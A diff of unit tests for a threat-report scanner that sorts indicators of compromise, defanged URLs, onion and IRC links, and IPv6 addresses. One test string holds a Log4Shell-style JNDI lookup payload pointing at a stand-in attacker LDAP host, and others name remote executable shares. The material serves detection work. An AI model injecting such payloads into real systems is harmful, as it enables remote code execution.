@@ -212,6 +212,27 @@ suite('scanText: context beats regex', () => {
 			'ip_port [2001:db8::5]:443',
 		]);
 	});
+	test('in a report that defangs, a live link with a scheme no citation uses, or to an onion service, is an indicator', () => {
+		const roles = (text: string) => scanText(text).map((m) => `${m.role} ${m.value}`);
+		assert.deepEqual(roles('evil[.]com. ${jndi:ldap://attacker-ldap.net:1389/a} irc://irc.bad.net:6667 http://abcdefghijklmnop.onion/x https://vendor-blog.com/post'), [
+			'indicator evil.com',
+			'indicator ldap://attacker-ldap.net:1389/a',
+			'indicator irc://irc.bad.net:6667',
+			'indicator http://abcdefghijklmnop.onion/x',
+			'reference https://vendor-blog.com/post',
+		]);
+	});
+	test('eight groups of two hex digits (a serial, an EUI-64) are no IPv6 address; CJK sentence punctuation ends a link', () => {
+		assert.deepEqual(found('Serial 4b:2f:aa:01:02:03:04:05, EUI 02:1a:2b:ff:fe:3c:4d:5e, but 2001:db8:1:2:3:4:5:6'), ['ipv6 2001:db8:1:2:3:4:5:6']);
+		assert.deepEqual(found('访问 hxxp://cjk-a[.]com/a，然后 hxxp://cjk-e[.]com/a。 （hxxp://cjk-f[.]com/b）「hxxp://cjk-g[.]com/c」'), [
+			'url http://cjk-a.com/a',
+			'url http://cjk-e.com/a',
+			'url http://cjk-f.com/b',
+			'url http://cjk-g.com/c',
+		]);
+		// The ideographic comma stays: real phishing paths hold it.
+		assert.deepEqual(found('hxxps://mm.evil[.]ru/a/連絡先、夕食会.html'), ['url https://mm.evil.ru/a/連絡先、夕食会.html']);
+	});
 	test('file:// URLs of remote shares are URLs; a WebDAV `@SSL` or `@port` ends the host; local files are not', () => {
 		assert.deepEqual(found('file://46.8.19[.]163/mise/server.exe and file://5.181.159[.]76@80/Downloads/alpha.url'), [
 			'url file://46.8.19.163/mise/server.exe',
